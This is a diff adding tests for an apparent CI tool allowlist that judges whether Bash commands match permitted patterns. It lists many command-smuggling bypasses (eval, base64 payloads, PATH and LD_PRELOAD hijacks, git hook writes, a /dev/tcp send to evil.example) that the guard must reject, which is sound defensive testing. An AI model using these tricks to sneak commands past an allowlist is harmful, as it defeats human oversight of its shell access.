@@ -3,9 +3,12 @@ import shlex
 from dataclasses import replace
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from guardian_ci.model import Finding, Place
 from guardian_ci.policy import load_policy
+from guardian_ci.policy.rules import view_of
 from guardian_ci.policy.rules.interface import ToolView
 from guardian_ci.policy.rules.tool_allowlist import ToolAllowlist
 from guardian_ci.policy.settings import Settings
@@ -13,6 +16,7 @@ from guardian_ci.policy.shell.facts import UNKNOWN, Access, Analysis, Opaque, To
 from guardian_ci.policy.tools import describe_tool
 
 ROOT = "/work/app"
+PATTERNS = ("Bash(git diff:*)", "Bash(npm run test)", "Bash(ls:*)")
 
 
 def listed(*entries: str) -> Settings:
@@ -252,3 +256,279 @@ def test_an_argument_that_stands_twice_is_judged_twice() -> None:
 
 def test_reading_through_an_editor_is_reading() -> None:
     assert asked(listed("read_file"), "str_replace_editor", {"command": "view", "path": "a"}) is None
+
+
+def typed(settings: Settings, line: str) -> Finding | None:
+    tool = describe_tool("c", "Bash", json.dumps({"command": line.replace("\\n", "\n")}))
+    return ToolAllowlist().check(settings, tool, view_of(tool, root=ROOT))
+
+
+ALLOWED_LINES = r"""
+git diff
+git diff --stat HEAD~1 -- src
+git diff | ls
+cd src && git diff
+git diff 2>/dev/null
+git diff > /dev/null 2>&1
+timeout 5 git diff
+timeout -k 5 5 git diff
+bash -lc 'git diff'
+/bin/bash -c "git diff && ls -la"
+npm run test
+npm run test 2>&1
+ls -la; echo done
+for f in a b; do ls $f; done
+if [ -d src ]; then ls src; fi
+X=1; ls $X
+CI=1 npm run test
+ls *.py
+ls "$HOME"
+git diff $(git diff --name-only)
+git diff "$BASE"
+export CI=1 && npm run test
+cd "$(git diff --x)" && ls
+true && git diff || exit 1
+set -e; git diff
+env NODE_ENV=test npm run test
+time npm run test
+ls | xargs ls
+printf 'x\\n'; pwd
+eval "git diff"
+nice -n 5 git diff
+echo "a > b"
+echo "$X $(ls)"
+[[ -f x ]] && ls x
+command -v git && git diff
+ls # a comment
+while ls x; do break; done
+"""
+
+
+@pytest.mark.parametrize("line", ALLOWED_LINES.strip().splitlines())
+def test_a_line_passes_where_patterns_mean_all_programs_that_it_runs(line: str) -> None:
+    assert typed(listed(*PATTERNS), line) is None
+
+
+OTHER_LINES = r"""
+git diff; evil
+git diff $(evil)
+git diff | evil
+git diff && (evil)
+git diff `evil`
+git diff <(evil)
+git diff > >(evil)
+PATH=. git diff
+eval evil
+eval "git diff; evil"
+bash -c evil
+bash -c 'git diff; evil'
+sh <<< evil
+echo evil | sh
+ls | xargs evil
+echo evil | xargs -I{} sh -c {}
+timeout 1 evil
+find . -exec evil ';'
+git diff & evil
+if evil; then git diff; fi
+f() { evil; }; f
+f() { evil; }; git diff
+trap evil EXIT; git diff
+alias git=evil; git diff
+git() { evil; }; git diff
+e""vil
+$'\x65vil'
+x=evil; $x
+$(echo ZXZpbA== | base64 -d)
+eval "$(echo ZXZpbA== | base64 -d)"
+env evil
+env A=b git diff evil; env evil
+nohup evil
+command evil
+exec evil
+builtin eval evil
+coproc evil
+time evil
+! evil
+{ evil; }
+case x in x) evil;; esac
+for i in 1; do evil; done
+while evil; do git diff; done
+[[ $(evil) ]]
+[ "$(evil)" ]
+echo $(evil)
+: ${x:=$(evil)}
+export X=$(evil)
+X=$(evil) git diff
+git diff -- "$(evil)"
+sudo evil
+sudo git diff
+source evil.sh
+. ./evil.sh
+./git diff
+/tmp/git diff
+bash evil.sh
+python3 -c 'import os; os.system("evil")'
+git -c core.pager=evil diff
+git -c alias.diff='!evil' diff
+GIT_EXTERNAL_DIFF=evil git diff
+LD_PRELOAD=./x.so ls
+export PATH=.:$PATH; git diff
+read PATH <<< .; git diff
+printf -v PATH . ; git diff
+declare -x PATH=.; git diff
+for PATH in .; do git diff; done
+: ${PATH:=.}; PATH+=:. ; git diff
+hash -p ./evil git; git diff
+enable -f ./evil.so x
+ls > ~/.bashrc
+echo evil > .git/hooks/pre-commit
+: > x
+git diff >> ../x
+npm run test -- evil
+npm run test2
+"git diff"
+"git diff" x
+git "diff x"
+gitdiff
+git difftool -x evil
+ls;evil
+ls||evil
+ls\nevil
+(evil)
+x=(evil); ${x[0]}
+mapfile -t a < x; "${a[0]}"
+bash -lc "ls; evil"
+bash -c "$X"
+eval "$X"
+$X
+"$X" diff
+git $X
+xargs git diff < x | sh
+cat x
+cat <<E\n$(evil)\nE
+ls "`evil`"
+let 'x=a[$(evil)]'
+echo $((a[$(evil)]))
+printf %s "$(evil)"
+test -n "$(evil)"
+PROMPT_COMMAND=evil ls
+BASH_ENV=evil bash -c ls
+ENV=evil sh -c ls
+set -- evil; "$@"
+set -- evil; $1
+fc -s
+bind -x '"a":evil'
+complete -C evil ls
+mapfile -C evil -c 1 a < x
+strace evil
+nice -n 5 evil
+setsid evil
+stdbuf -oL evil
+ionice -c3 evil
+chroot / evil
+unshare evil
+parallel evil
+watch evil
+script -c evil
+su -c evil
+ssh h evil
+docker run x evil
+npx evil
+make evil
+awk 'BEGIN{system("evil")}'
+sed '1e evil' x
+vim -c '!evil'
+tar --checkpoint-action=exec=evil
+ls | tee x
+env -S 'git diff' evil; env -S 'evil'
+timeout 5 sh -c evil
+timeout -k 5 5 evil
+bash -c 'ls' evil; bash -c '$0' evil
+bash --rcfile evil -ic ls
+bash -O expand_aliases -c 'alias ls=evil\nls'
+\ls; \evil
+ls;#\nevil
+git diff --output=x; evil #
+git diff -G'$(evil)' "$(evil)"
+exec 3>x; git diff >&3
+git diff | tee /dev/stderr
+ls 2>x
+ls &> x
+ls >| x
+ls <> x
+exec > x; ls
+echo a > $F
+readonly PATH=.; ls
+local PATH=.; ls
+typeset PATH=.; ls
+unset PATH; ls
+IFS=x; ls
+BASH_ALIASES[git]=evil; shopt -s expand_aliases; git diff
+shopt -s expand_aliases
+coproc X { evil; }
+select x in a; do evil; done
+ls & wait; evil
+until evil; do ls; done
+function ls { evil; }; ls
+ls() ( evil ); ls
+((x=$(evil)))
+[[ -v 'a[$(evil)]' ]]
+printf -v 'a[$(evil)]' x
+read 'a[$(evil)]' <<< x
+x='$(evil)'; echo ${x@P}
+PS4='$(evil)'; set -x; ls
+ls /dev/tcp/x/1 > /dev/tcp/evil.example/80
+"""
+
+
+@pytest.mark.parametrize("line", OTHER_LINES.strip().splitlines())
+def test_a_line_that_does_something_else_as_well_does_not_pass(line: str) -> None:
+    assert typed(listed(*PATTERNS), line) is not None
+
+
+FRAMES = st.sampled_from(
+    [
+        "{}",
+        "git diff; {}",
+        "{} | ls",
+        "ls | {}",
+        "({})",
+        "{{ {}; }}",
+        "ls $({})",
+        'ls "$({})"',
+        "ls <({})",
+        "if {}; then ls; fi",
+        "for i in 1 2; do {}; done",
+        "case $x in a) {};; esac",
+        "f() {{ {}; }}; f",
+        "{} &",
+        "! {}",
+        "cd x && {} || ls",
+        "x=$({}) ls",
+        "[[ -n $({}) ]]",
+        'echo "${{x:-$({})}}"',
+        "cat <<E\n$({})\nE",
+        "ls # comment\n{}",
+        "git diff\n{}\nls",
+    ]
+)
+EVIL = st.sampled_from(
+    [
+        "evil",
+        "timeout 5 evil",
+        "env A=b evil x",
+        "x=evil; $x",
+        "bash -c evil",
+        "echo evil | sh",
+        "eval evil",
+        "ls | xargs evil",
+    ]
+)
+
+
+@settings(deadline=None)
+@given(st.lists(FRAMES, max_size=4), EVIL)
+def test_a_program_that_no_pattern_names_does_not_pass_however_deep_it_stands(frames: list[str], line: str) -> None:
+    for frame in frames:
+        line = frame.replace("{{", "\0").replace("}}", "\1").replace("{}", line).replace("\0", "{").replace("\1", "}")
+    assert typed(listed(*PATTERNS), line) is not None
